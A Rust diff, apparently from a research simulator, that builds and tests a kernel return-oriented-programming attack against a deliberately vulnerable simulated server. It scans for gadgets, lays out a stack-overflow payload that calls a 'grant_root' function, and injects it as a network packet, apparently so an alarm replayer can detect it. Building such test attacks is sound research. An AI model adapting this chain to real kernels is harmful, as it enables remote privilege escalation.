@@ -1,0 +1,175 @@
+//! The §6 kernel ROP attack: payload construction and mounting.
+
+use std::fmt;
+
+use rnr_guest::KernelImage;
+use rnr_hypervisor::{PacketInjection, VmSpec};
+use rnr_isa::{Addr, Reg};
+use rnr_workloads::{Workload, WorkloadParams};
+
+use crate::GadgetScanner;
+
+/// Errors from payload construction.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum RopChainError {
+    /// A required gadget is missing from the kernel image.
+    MissingGadget(&'static str),
+    /// The resume target is unknown (user image lacks the symbol).
+    MissingResumeTarget,
+}
+
+impl fmt::Display for RopChainError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            RopChainError::MissingGadget(g) => write!(f, "kernel image lacks a usable {g} gadget"),
+            RopChainError::MissingResumeTarget => write!(f, "no resume target for the getaway sysret"),
+        }
+    }
+}
+
+impl std::error::Error for RopChainError {}
+
+/// Everything known about a constructed attack, for verification against
+/// the alarm replayer's report.
+#[derive(Debug, Clone)]
+pub struct AttackPlan {
+    /// The crafted packet payload.
+    pub payload: Vec<u8>,
+    /// Address of G1 (`pop r1; ret`).
+    pub g1: Addr,
+    /// Address of G2 (`ld r9,[r1]; ret`).
+    pub g2: Addr,
+    /// Address of G3 (`callr r9`).
+    pub g3: Addr,
+    /// The kernel-table slot holding the `grant_root` pointer.
+    pub fptr_slot: Addr,
+    /// The escalation target the chain calls.
+    pub grant_root: Addr,
+    /// Where the chain sysrets back to user code.
+    pub resume: Addr,
+}
+
+/// Builds the Figure 10 payload from scanned gadgets.
+///
+/// Layout written into `proc_msg`'s 128-byte stack buffer by the kernel's
+/// unbounded word-copy (all words non-zero, so the copy does not stop
+/// early):
+///
+/// ```text
+/// [128 bytes junk][G1][&fptr_slot][G2][G3][flags][resume][0-terminator]
+/// ```
+#[derive(Debug)]
+pub struct RopChainBuilder<'a> {
+    kernel: &'a KernelImage,
+}
+
+impl<'a> RopChainBuilder<'a> {
+    /// A builder over the victim kernel.
+    pub fn new(kernel: &'a KernelImage) -> RopChainBuilder<'a> {
+        RopChainBuilder { kernel }
+    }
+
+    /// Constructs the payload, taking the post-attack resume address (user
+    /// code to `sysret` into for a clean getaway).
+    ///
+    /// # Errors
+    ///
+    /// Fails if the kernel image does not supply the required gadgets.
+    pub fn build(&self, resume: Addr) -> Result<AttackPlan, RopChainError> {
+        let scanner = GadgetScanner::new(self.kernel.image(), 2);
+        let g1 = scanner.find_pop_ret(Reg::R1).ok_or(RopChainError::MissingGadget("pop r1; ret"))?.addr;
+        let g2 = scanner
+            .find_load_ret(Reg::R9, Reg::R1)
+            .ok_or(RopChainError::MissingGadget("ld r9,[r1]; ret"))?
+            .addr;
+        let g3 = scanner.find_callr(Reg::R9).ok_or(RopChainError::MissingGadget("callr r9"))?;
+        let fptr_slot = self.kernel.kfunc_table(); // slot 0 = grant_root
+        let mut payload = Vec::with_capacity(192);
+        // 16 junk words: non-zero so the word-strcpy keeps copying.
+        for i in 0..16u64 {
+            payload.extend_from_slice(&(0x4a4a_4a4a_4a4a_4a00u64 | (i + 1)).to_le_bytes());
+        }
+        payload.extend_from_slice(&g1.to_le_bytes()); // overwrites proc_msg's return
+        payload.extend_from_slice(&fptr_slot.to_le_bytes()); // popped into r1
+        payload.extend_from_slice(&g2.to_le_bytes()); // r9 = grant_root
+        payload.extend_from_slice(&g3.to_le_bytes()); // call it
+        payload.extend_from_slice(&3u64.to_le_bytes()); // sysret flags: user | IE
+        payload.extend_from_slice(&resume.to_le_bytes()); // getaway target
+        // The terminating zero word is supplied by the copy itself; pad the
+        // frame so the NIC's 32-byte granule never truncates the chain.
+        payload.extend_from_slice(&0u64.to_le_bytes());
+        Ok(AttackPlan {
+            payload,
+            g1,
+            g2,
+            g3,
+            fptr_slot,
+            grant_root: self.kernel.grant_root(),
+            resume,
+        })
+    }
+}
+
+/// Builds the full §6 scenario: the vulnerable server workload with the
+/// crafted packet injected at `attack_cycle` — a remote attacker exploiting
+/// the message-processing path over the network.
+///
+/// # Errors
+///
+/// Propagates gadget-scan failures.
+pub fn mount_kernel_rop(
+    params: &WorkloadParams,
+    attack_cycle: u64,
+) -> Result<(VmSpec, AttackPlan), RopChainError> {
+    let mut spec = Workload::vulnerable_server(params);
+    let resume = spec.extra_images[0].symbol("ap_loop").ok_or(RopChainError::MissingResumeTarget)?;
+    let plan = RopChainBuilder::new(&spec.kernel).build(resume)?;
+    spec.net.injections.push(PacketInjection { at_cycle: attack_cycle, payload: plan.payload.clone() });
+    spec.name = "apache-vuln+rop".to_string();
+    Ok((spec, plan))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rnr_guest::KernelBuilder;
+
+    #[test]
+    fn payload_has_figure_10_layout() {
+        let kernel = KernelBuilder::new().build();
+        let plan = RopChainBuilder::new(&kernel).build(0x20_0000).unwrap();
+        let words: Vec<u64> = plan
+            .payload
+            .chunks(8)
+            .map(|c| u64::from_le_bytes(c.try_into().unwrap()))
+            .collect();
+        assert_eq!(words.len(), 23);
+        assert!(words[..16].iter().all(|&w| w != 0), "junk must be non-zero");
+        assert_eq!(words[16], plan.g1);
+        assert_eq!(words[17], plan.fptr_slot);
+        assert_eq!(words[18], plan.g2);
+        assert_eq!(words[19], plan.g3);
+        assert_eq!(words[20], 3);
+        assert_eq!(words[21], 0x20_0000);
+        assert_eq!(words[22], 0);
+    }
+
+    #[test]
+    fn fptr_slot_contains_grant_root() {
+        let kernel = KernelBuilder::new().build();
+        let plan = RopChainBuilder::new(&kernel).build(0x20_0000).unwrap();
+        let image = kernel.image();
+        let off = (plan.fptr_slot - image.base()) as usize;
+        let stored = u64::from_le_bytes(image.bytes()[off..off + 8].try_into().unwrap());
+        assert_eq!(stored, plan.grant_root);
+    }
+
+    #[test]
+    fn mount_injects_one_packet() {
+        let (spec, plan) = mount_kernel_rop(&WorkloadParams::default(), 1_500_000).unwrap();
+        assert_eq!(spec.net.injections.len(), 1);
+        assert_eq!(spec.net.injections[0].at_cycle, 1_500_000);
+        assert_eq!(spec.net.injections[0].payload, plan.payload);
+        assert_eq!(spec.name, "apache-vuln+rop");
+    }
+}
